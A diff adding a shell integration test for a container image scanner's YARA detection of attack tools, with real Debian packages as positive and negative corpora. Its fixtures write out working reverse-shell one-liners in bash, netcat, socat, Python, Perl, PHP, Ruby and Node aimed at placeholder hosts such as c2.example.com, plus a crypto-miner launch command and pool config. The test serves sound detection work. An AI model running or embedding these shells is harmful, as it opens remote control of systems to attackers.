@@ -1,0 +1,375 @@
+# Integration: YARA tool detection (suspicious-tool) on real Debian
+# packages. Positive corpus: network and attack tools from Debian, each
+# at its packaged path, renamed to an innocent name (mode 0644 shared
+# object, so only the ELF magic gets it scanned) and stripped + renamed
+# (strip -o); plus reverse-shell and miner scripts. Every one must be
+# found, by the expected rule. Negative corpus: every file (ELF files,
+# scripts and the rest, all scanned) of ~100 common Debian packages, their
+# maintainer scripts, and look-alike scripts written here: zero
+# suspicious-tool findings allowed.
+# Also: --rules, `portcullis rules check`, the yara policy knobs
+# (ignore_rules, allow_paths, scan_all_files, max_file_bytes blocks) and
+# the rules digest in the report. Downloads are cached in .cache/debs.
+. "$PC_ROOT/tests/lib.sh"
+
+DEBS="$PC_ROOT/.cache/debs"
+mkdir -p "$DEBS"
+updated=0
+fetch() {
+    ls "$DEBS"/"$1"_*.deb >/dev/null 2>&1 && return 0
+    (cd "$DEBS" && apt-get download "$1" >/dev/null 2>&1) && return 0
+    [ $updated -eq 1 ] || { apt-get update -q >/dev/null 2>&1; updated=1; }
+    (cd "$DEBS" && apt-get download "$1" >/dev/null 2>&1)
+}
+# unpack PKG: extracts the package (once) into $T/x/PKG
+unpack() {
+    [ -d "$T/x/$1" ] && return 0
+    fetch "$1" || { fail "apt-get download $1" "no package"; return 1; }
+    mkdir -p "$T/x/$1" && dpkg-deb -x "$DEBS"/"$1"_*.deb "$T/x/$1"
+}
+is_elf() { [ "$(head -c 4 "$1" | od -An -c | tr -d ' ')" = '177ELF' ]; }
+is_script() { [ "$(head -c 2 "$1")" = '#!' ]; }
+mode_of() { printf '0%s' "$(stat -c %a "$1")"; }
+# spec TSV (path, mode, host file) → fixture spec with one layer per TSV
+spec() {
+    out=$1
+    shift
+    for tsv in "$@"; do
+        jq -Rn '{compression: "gzip", entries: [inputs | split("\t") |
+            {path: .[0], type: "file", mode: .[1], from_file: .[2]}]}' <"$tsv"
+    done | jq -s '{tag: "latest", images: [{platform: "linux/amd64",
+        config: {User: "1000", Entrypoint: ["/bin/true"]}, layers: .}]}' >"$out"
+}
+build() { # build NAME SPEC
+    "$FB" "$2" "$T/$1" >"$T/fb.log" 2>&1 || { fail "build $1" "$(head -c 600 "$T/fb.log")"; return 1; }
+}
+# tool findings of the JSON report in $T/out as "PATH RULE" lines
+tool_hits() { jq -r '.reports[0].findings[] | select(.check == "suspicious-tool") | "\(.path) \(.rule)"' "$T/out"; }
+
+# ---- rules check
+run "rules check shipped" 0 "$PC" rules check "$PC_ROOT/rules"
+grep_in "rules check names count and digest" 'rules in 9 files compiled, 0 warnings; rules digest sha256:[0-9a-f]{64}' "$T/out"
+digest=$(sed -n 's/.*rules digest \(sha256:[0-9a-f]*\).*/\1/p' "$T/out")
+run "rules check default path" 0 "$PC" rules check
+mkdir -p "$T/badrules/sub"
+printf 'rule ok { condition: true }\n' >"$T/badrules/ok.yar"
+printf 'rule broken {\n  strings:\n    $a = "x"\n  condition:\n    $a and\n}\n' >"$T/badrules/sub/broken.yar"
+printf 'rule later {\n  condition:\n    no_such_identifier\n}\n' >"$T/badrules/sub/later.yara"
+printf '{"not": "a rule"\n' >"$T/badrules/skip.json"
+run "rules check errors exit 2" 2 "$PC" rules check "$T/badrules"
+grep_in "rules check error has file:line" "badrules/sub/broken.yar:[0-9]+: " "$T/err"
+grep_in "rules check reports later files too" "badrules/sub/later.yara:[0-9]+: .*no_such_identifier" "$T/err"
+run "rules check missing path" 2 "$PC" rules check "$T/nope"
+run "rules check usage" 2 "$PC" rules lint
+
+# ---- positive corpus: PKG PATH RULE (a package path may hold several tools)
+cat >"$T/tools.txt" <<'E'
+netcat-openbsd bin/nc.openbsd netcat_openbsd
+netcat-traditional bin/nc.traditional netcat_traditional
+ncat usr/bin/ncat netcat_ncat
+busybox bin/busybox netcat_busybox_applet
+socat usr/bin/socat socat
+nmap usr/bin/nmap scanner_nmap
+masscan usr/bin/masscan scanner_masscan
+zmap usr/sbin/zmap scanner_zmap
+arp-scan usr/sbin/arp-scan scanner_arp_scan
+nbtscan usr/bin/nbtscan scanner_nbtscan
+netdiscover usr/sbin/netdiscover scanner_netdiscover
+tcpdump usr/bin/tcpdump sniffer_tcpdump
+tshark usr/bin/tshark sniffer_wireshark_cli
+wireshark-common usr/bin/dumpcap sniffer_wireshark_cli
+ngrep usr/bin/ngrep sniffer_ngrep
+netsniff-ng usr/sbin/netsniff-ng sniffer_netsniff_ng
+dsniff usr/sbin/dsniff sniffer_dsniff_suite
+dsniff usr/sbin/arpspoof sniffer_dsniff_suite
+dsniff usr/sbin/urlsnarf sniffer_dsniff_suite
+hping3 usr/sbin/hping3 flooder_hping3
+nmap usr/bin/nping flooder_nping
+t50 usr/sbin/t50 flooder_t50
+packit usr/sbin/packit flooder_packit
+sendip usr/bin/sendip flooder_sendip
+netsniff-ng usr/sbin/mausezahn flooder_netsniff_ng_generators
+netsniff-ng usr/sbin/trafgen flooder_netsniff_ng_generators
+iodine usr/sbin/iodine tunnel_iodine
+iodine usr/sbin/iodined tunnel_iodine
+ptunnel usr/sbin/ptunnel tunnel_ptunnel
+ptunnel-ng usr/bin/ptunnel-ng tunnel_ptunnel
+dns2tcp usr/bin/dns2tcpc tunnel_dns2tcp
+dns2tcp usr/bin/dns2tcpd tunnel_dns2tcp
+proxychains4 usr/bin/proxychains4 tunnel_proxychains
+libproxychains4 usr/lib/x86_64-linux-gnu/libproxychains.so.4 tunnel_proxychains
+hydra usr/bin/hydra bruteforce_hydra
+medusa usr/bin/medusa bruteforce_medusa
+medusa usr/lib/x86_64-linux-gnu/medusa/modules/ssh.mod bruteforce_medusa
+ncrack usr/bin/ncrack bruteforce_ncrack
+john usr/sbin/john bruteforce_john
+patator usr/bin/patator bruteforce_patator
+E
+: >"$T/pos1.tsv"
+: >"$T/pos2.tsv"
+: >"$T/pos3.tsv"
+: >"$T/expect.txt"
+i=0
+while read -r pkg path rule; do
+    unpack "$pkg" || continue
+    i=$((i + 1))
+    f="$T/x/$pkg/$path"
+    [ -f "$f" ] || { fail "corpus $pkg" "no $path in the package"; continue; }
+    printf '%s\t%s\t%s\n' "$path" "$(mode_of "$f")" "$f" >>"$T/pos1.tsv"
+    printf '/%s %s %s packaged\n' "$path" "$rule" "$pkg" >>"$T/expect.txt"
+    # renamed, not executable: only the content (ELF magic, shebang) gets it scanned
+    if is_elf "$f"; then
+        printf 'usr/lib/x/libhelper%d.so\t0644\t%s\n' $i "$f" >>"$T/pos2.tsv"
+        printf '/usr/lib/x/libhelper%d.so %s %s renamed\n' $i "$rule" "$pkg" >>"$T/expect.txt"
+        strip -s -o "$T/x/stripped$i" "$f" 2>/dev/null || cp "$f" "$T/x/stripped$i"
+        printf 'app/worker%d\t0755\t%s\n' $i "$T/x/stripped$i" >>"$T/pos3.tsv"
+        printf '/app/worker%d %s %s stripped+renamed\n' $i "$rule" "$pkg" >>"$T/expect.txt"
+    else
+        printf 'srv/app/task%d\t0644\t%s\n' $i "$f" >>"$T/pos2.tsv"
+        printf '/srv/app/task%d %s %s renamed\n' $i "$rule" "$pkg" >>"$T/expect.txt"
+    fi
+done <"$T/tools.txt"
+
+# scripts: reverse shells and miners, as an attacker would leave them
+S="$T/scripts"
+mkdir -p "$S"
+printf '#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' >"$S/bash_i"
+printf '#!/bin/sh\n0<&196;exec 196<>/dev/tcp/203.0.113.7/8080; sh <&196 >&196 2>&196\n' >"$S/bash_fd"
+printf '#!/bin/bash\nexec 5<>/dev/tcp/c2.example.com/443\ncat <&5 | while read line; do $line 2>&5 >&5; done\n' >"$S/bash_loop"
+printf '#!/bin/sh\n/bin/bash -c "/bin/sh > /dev/tcp/10.1.2.3/9001 0>&1 2>&1"\n' >"$S/bash_dup"
+printf '#!/bin/sh\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f\n' >"$S/nc_fifo"
+printf '#!/bin/sh\nwhile true; do nc -e /bin/sh 10.0.0.1 4242; sleep 60; done\n' >"$S/nc_e"
+printf '#!/bin/sh\nncat 10.0.0.1 4242 --sh-exec "/bin/bash -i"\n' >"$S/ncat_exec"
+printf "#!/bin/sh\nsocat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242\n" >"$S/socat_sh"
+cat >"$S/py_rev" <<'E'
+#!/usr/bin/env python3
+import socket,subprocess,os
+s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
+s.connect(("10.0.0.1",4242))
+os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
+import pty; pty.spawn("/bin/bash")
+E
+cat >"$S/py_oneliner" <<'E'
+#!/bin/sh
+python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'
+E
+cat >"$S/perl_rev" <<'E'
+#!/bin/sh
+perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
+E
+cat >"$S/perl_io" <<'E'
+#!/bin/sh
+perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
+E
+cat >"$S/php_rev" <<'E'
+#!/bin/sh
+php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'
+E
+cat >"$S/ruby_rev" <<'E'
+#!/bin/sh
+ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
+E
+cat >"$S/node_rev" <<'E'
+#!/usr/bin/env node
+(function(){ var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
+  var client = new net.Socket();
+  client.connect(4242, "10.0.0.1", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });
+  return /a/; })();
+E
+cat >"$S/miner_start" <<'E'
+#!/bin/sh
+cd /opt/.cache && ./kworker -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x -k --donate-level=1
+E
+cat >"$S/miner_config.json" <<'E'
+{
+    "autosave": true,
+    "donate-level": 1,
+    "cpu": {"enabled": true, "huge-pages": true},
+    "pools": [
+        {"algo": "rx/0", "url": "pool.example.net:443", "user": "WALLET", "pass": "x", "tls": true}
+    ]
+}
+E
+# tools Debian does not ship: synthetic ELF files holding the strings the rules name
+# (they test the rules' logic, not real binaries)
+python3 - "$S" <<'E'
+import sys
+elf = b'\x7fELF\x02\x01\x01' + b'\0' * 57
+def write(name, *strings):
+    with open(sys.argv[1] + '/' + name, 'wb') as f:
+        f.write(elf + b'\0'.join(s.encode() for s in strings) + b'\0' * 64)
+write('chisel_like', 'github.com/jpillora/chisel/share/tunnel.(*Tunnel).BindRemotes')
+write('xmrig_like', 'XMRig/%s', 'donate.v2.xmrig.com', '--donate-level')
+write('cpuminer_like', 'Usage: minerd [OPTIONS]', 'Stratum requested work restart')
+E
+: >"$T/pos4.tsv"
+for s in chisel_like:tunnel_go_pivots xmrig_like:miner_xmrig cpuminer_like:miner_cpuminer; do
+    n=${s%%:*}
+    printf 'opt/synthetic/%s\t0644\t%s\n' "$n" "$S/$n" >>"$T/pos4.tsv"
+    printf '/opt/synthetic/%s %s %s synthetic\n' "$n" "${s#*:}" "$n" >>"$T/expect.txt"
+done
+for s in bash_i:revshell_bash_dev_tcp bash_fd:revshell_bash_dev_tcp bash_loop:revshell_bash_dev_tcp \
+    bash_dup:revshell_bash_dev_tcp nc_fifo:revshell_netcat_pipe nc_e:revshell_netcat_pipe \
+    ncat_exec:revshell_netcat_pipe socat_sh:revshell_socat py_rev:revshell_python \
+    py_oneliner:revshell_python perl_rev:revshell_perl perl_io:revshell_perl php_rev:revshell_php \
+    ruby_rev:revshell_ruby node_rev:revshell_node miner_start:miner_stratum_url; do
+    n=${s%%:*}
+    printf 'opt/scripts/%s\t0644\t%s\n' "$n" "$S/$n" >>"$T/pos4.tsv"
+    printf '/opt/scripts/%s %s script script\n' "$n" "${s#*:}" >>"$T/expect.txt"
+done
+printf 'etc/miner/config.json\t0644\t%s\n' "$S/miner_config.json" >>"$T/pos4.tsv"
+spec "$T/pos.json" "$T/pos1.tsv" "$T/pos2.tsv" "$T/pos3.tsv" "$T/pos4.tsv"
+build pos "$T/pos.json" || exit 1
+
+run "positive image denied" 1 "$PC" scan --format json "oci:$T/pos/oci:latest"
+cp "$T/out" "$T/pos-report.json"
+tool_hits | sort -u >"$T/hits.txt"
+jq_true "rules digest in report" ".reports[0].rules_digest == \"$digest\"" "$T/pos-report.json"
+jq_true "tool findings carry layer and message" '[.reports[0].findings[] | select(.check == "suspicious-tool") | (.layer | test("^sha256:")) and (.message | length > 10) and .action == "deny"] | all' "$T/pos-report.json"
+found=0 total=0
+while read -r path rule pkg variant; do
+    total=$((total + 1))
+    if grep -qx "$path $rule" "$T/hits.txt"; then
+        found=$((found + 1))
+        pass "detect $pkg $variant $path ($rule)"
+    else
+        fail "detect $pkg $variant $path" "no $rule finding; got: $(grep "^$path " "$T/hits.txt" | tr '\n' ' ')"
+    fi
+done <"$T/expect.txt"
+[ "$found" -eq "$total" ] && pass "detection: $found of $total tool files found" ||
+    fail "detection" "$found of $total tool files found"
+if grep -q '^/etc/miner/config.json ' "$T/hits.txt"; then
+    fail "config not scanned by default" "a 0644 JSON file was scanned"
+else
+    pass "config not scanned by default (not executable, no shebang)"
+fi
+
+# ---- policy knobs: scan_all_files, ignore_rules, allow_paths
+printf '{"name": "all", "yara": {"scan_all_files": true}}\n' >"$T/all.json"
+run "scan_all_files" 1 "$PC" scan --policy "$T/all.json" --format json "oci:$T/pos/oci:latest"
+tool_hits >"$T/hits-all.txt"
+grep_in "scan_all_files finds the miner config" '^/etc/miner/config.json miner_config$' "$T/hits-all.txt"
+printf '{"name": "ign", "yara": {"ignore_rules": ["netcat_busybox_applet"]},
+ "checks": {"suspicious-tool": {"action": "deny", "allow_paths": ["/usr/sbin/*", "/app/*"]}}}\n' >"$T/ign.json"
+run "ignore_rules + allow_paths" 1 "$PC" scan --policy "$T/ign.json" --format json "oci:$T/pos/oci:latest"
+jq_true "ignored rule gone" '[.reports[0].findings[] | select(.rule == "netcat_busybox_applet")] | length == 0'
+jq_true "allowed paths gone" '[.reports[0].findings[] | select(.check == "suspicious-tool") | .path | test("^/(usr/sbin|app)/")] | any | not'
+jq_true "others stay" '[.reports[0].findings[] | select(.rule == "socat")] | length >= 2'
+
+# ---- bounded blocks: a tool padded past max_file_bytes, strings across block ends
+nc="$T/x/netcat-openbsd/bin/nc.openbsd"
+python3 - "$nc" "$T/x/padded" <<'E'
+import sys
+data = open(sys.argv[1], 'rb').read()
+out = bytearray(b'\0' * (3 << 20))
+out[:64] = data[:64]                          # ELF header at offset 0
+strings = [b'Zero-I/O mode [used for scanning]', b'cannot use -z and -l', b'must use -l with -k']
+for off, s in zip([65536 - 10, 1 << 20, (3 << 20) - 40], strings):
+    out[off:off + len(s)] = s                 # the first straddles the end of block 1
+open(sys.argv[2], 'wb').write(out)
+E
+printf 'usr/local/bin/big\t0755\t%s\n' "$T/x/padded" >"$T/big.tsv"
+spec "$T/big-spec.json" "$T/big.tsv"
+build big "$T/big-spec.json" || exit 1
+printf '{"name": "small", "yara": {"max_file_bytes": 65536}}\n' >"$T/small.json"
+run "block scan" 1 "$PC" scan --policy "$T/small.json" --format json "oci:$T/big/oci:latest"
+jq_true "found across 64 KiB blocks" '[.reports[0].findings[] | select(.rule == "netcat_openbsd" and .path == "/usr/local/bin/big")] | length == 1'
+run "whole-file scan" 1 "$PC" scan --format json "oci:$T/big/oci:latest"
+jq_true "found in the whole file" '[.reports[0].findings[] | select(.rule == "netcat_openbsd")] | length == 1'
+
+# ---- --rules: a directory of our own, and a broken one
+mkdir -p "$T/myrules"
+printf 'rule only_socat { meta: tool = "socat" description = "test" severity = "low"\n  strings: $a = "SOCAT_FORK_WAIT" condition: $a and filename != "" and filemode > 0 }\n' >"$T/myrules/mine.yar"
+run "--rules dir" 1 "$PC" scan --rules "$T/myrules" --format json "oci:$T/pos/oci:latest"
+jq_true "--rules replaces the set" '([.reports[0].findings[] | select(.check == "suspicious-tool") | .rule] | unique) == ["only_socat"]'
+jq_true "--rules digest differs" ".reports[0].rules_digest != \"$digest\" and (.reports[0].rules_digest | test(\"^sha256:\"))"
+run "--rules broken" 2 "$PC" scan --rules "$T/badrules" "oci:$T/pos/oci:latest"
+grep_in "--rules error names file:line" 'broken.yar:[0-9]+:' "$T/err"
+
+# ---- negative corpus: every ELF file and script of common packages
+NEG="coreutils bash util-linux libc6 libc-bin openssl libssl3 curl libcurl4 python3.11-minimal
+libpython3.11-minimal perl-base git openssh-client openssh-server tar gzip findutils grep sed dpkg
+apt libapt-pkg6.0 zlib1g systemd libsystemd-shared libsystemd0 libudev1 procps libproc2-0 iproute2
+iputils-ping wget less vim-tiny nano e2fsprogs mount login passwd libstdc++6 gcc-12-base libgcc-s1
+ca-certificates file libmagic1 xz-utils liblzma5 bzip2 libbz2-1.0 zstd libzstd1 sudo libpcap0.8
+dash diffutils hostname ncurses-bin libncursesw6 libtinfo6 libgnutls30 libkrb5-3 rsync gawk mawk
+libpam-modules libselinux1 libcap2 libcap2-bin iptables net-tools traceroute inetutils-telnet
+libnghttp2-14 libssh2-1 libsqlite3-0 libxml2 libexpat1 libffi8 libgmp10 libidn2-0 libunistring2
+libp11-kit0 libgcrypt20 libseccomp2 libcrypt1 libacl1 libattr1 libblkid1 libmount1 libuuid1
+libsmartcols1 libpcre2-8-0 libreadline8 libedit2 libbsd0 libmd0 libkmod2 kmod libdb5.3"
+: >"$T/neg1.tsv"
+: >"$T/neg2.tsv"
+npkg=0
+for p in $NEG; do
+    unpack "$p" || continue
+    npkg=$((npkg + 1))
+    mkdir -p "$T/ctl/$p" && dpkg-deb -e "$DEBS"/"$p"_*.deb "$T/ctl/$p"
+done
+# every regular file: ELF magic → neg1.tsv, shebang → neg2.tsv, the rest → neg3.tsv
+: >"$T/neg3.tsv"
+python3 - "$T/x" "$T/neg1.tsv" "$T/neg2.tsv" "$T/neg3.tsv" $NEG <<'E'
+import os, stat, sys
+root, elf_out, scr_out, other_out, pkgs = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5:]
+with open(elf_out, 'a') as fe, open(scr_out, 'a') as fs, open(other_out, 'a') as fo:
+    for p in pkgs:
+        base = os.path.join(root, p)
+        for d, _, files in os.walk(base):
+            for n in sorted(files):
+                f = os.path.join(d, n)
+                st = os.lstat(f)
+                if not stat.S_ISREG(st.st_mode):
+                    continue
+                with open(f, 'rb') as h:
+                    head = h.read(4)
+                line = 'neg/%s%s\t0%o\t%s\n' % (p, f[len(base):], stat.S_IMODE(st.st_mode), f)
+                if head == b'\x7fELF':
+                    fe.write(line)
+                elif head[:2] == b'#!':
+                    fs.write(line)
+                else:
+                    fo.write(line)
+E
+for f in "$T"/ctl/*/*; do
+    is_script "$f" || continue
+    p=$(basename "$(dirname "$f")")
+    printf 'var/lib/dpkg/info/%s.%s\t0755\t%s\n' "$p" "$(basename "$f")" "$f" >>"$T/neg2.tsv"
+done
+# look-alikes: scripts that talk to /dev/tcp, nc, sockets or pools without serving a shell
+N="$T/lookalike"
+mkdir -p "$N"
+printf '#!/bin/bash\n# wait-for-it: probe until the database answers\nuntil (echo > /dev/tcp/$DB_HOST/5432) >/dev/null 2>&1; do sleep 1; done\nexec "$@"\n' >"$N/wait_db"
+printf '#!/bin/bash\nexec 3<>/dev/tcp/localhost/80\nprintf "GET / HTTP/1.0\\r\\n\\r\\n" >&3\ncat <&3\nexec 3>&-\n' >"$N/http_probe"
+printf '#!/bin/sh\n# health check\nnc -z -w 2 localhost 8080 || exit 1\necho ok | nc -q 1 metrics 2003\n' >"$N/nc_health"
+printf '#!/usr/bin/env python3\nimport socket, os, sys\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(("localhost", 6379))\nos.dup2(sys.stdout.fileno(), 2)\nprint(s.recv(10))\n' >"$N/py_client"
+printf '#!/bin/sh\nexec socat TCP-LISTEN:8080,fork,reuseaddr TCP:backend:80\n' >"$N/socat_proxy"
+printf '#!/bin/sh\n# see docs: stratum pools are not used here\nexec /usr/bin/app --pools-file /etc/app/pools.json\n' >"$N/app_start"
+for f in "$N"/*; do
+    printf 'usr/local/bin/%s\t0755\t%s\n' "$(basename "$f")" "$f" >>"$T/neg2.tsv"
+done
+nelf=$(wc -l <"$T/neg1.tsv")
+nscr=$(wc -l <"$T/neg2.tsv")
+noth=$(wc -l <"$T/neg3.tsv")
+bytes=$(cut -f3 "$T/neg1.tsv" | tr '\n' '\0' | xargs -0 stat -c %s | awk '{s += $1} END {print s}')
+corpus="$npkg packages, $nelf ELF files ($bytes bytes), $nscr scripts, $noth other files"
+[ "$npkg" -ge 40 ] && [ "$nelf" -ge 500 ] && pass "negative corpus: $corpus" || fail "negative corpus" "too small: $corpus"
+spec "$T/neg.json" "$T/neg1.tsv" "$T/neg2.tsv" "$T/neg3.tsv"
+build neg "$T/neg.json" || exit 1
+start=$(date +%s)
+# only suspicious-tool may deny (the corpus has setuid files and more); every file is scanned
+printf '{"name": "tools-only", "yara": {"scan_all_files": true}, "checks": {"root-user": {"action": "ignore"},
+ "missing-entrypoint": {"action": "ignore"}, "entrypoint-unrunnable": {"action": "ignore"},
+ "workdir-inaccessible": {"action": "ignore"}, "setuid-file": {"action": "ignore"},
+ "setgid-file": {"action": "ignore"}, "file-capability": {"action": "ignore"},
+ "device-file": {"action": "ignore"}, "privileged-port": {"action": "ignore"},
+ "secret-in-env": {"action": "ignore"}, "world-writable": {"action": "ignore"},
+ "unpinned-image": {"action": "ignore"}}}\n' >"$T/tools-only.json"
+run "negative image allowed" 0 "$PC" scan --policy "$T/tools-only.json" --format json "oci:$T/neg/oci:latest"
+secs=$(($(date +%s) - start))
+tool_hits >"$T/fp.txt"
+fp=$(wc -l <"$T/fp.txt")
+if [ "$fp" -eq 0 ]; then
+    pass "false positives: 0 of $((nelf + nscr + noth)) files, every one scanned (${secs}s)"
+else
+    fail "false positives: $fp of $((nelf + nscr + noth)) files" "$(head -20 "$T/fp.txt" | tr '\n' ';')"
+fi
+jq_true "negative image scanned completely" '.reports[0].scan_failed == false and .reports[0].stats.files > 5000'
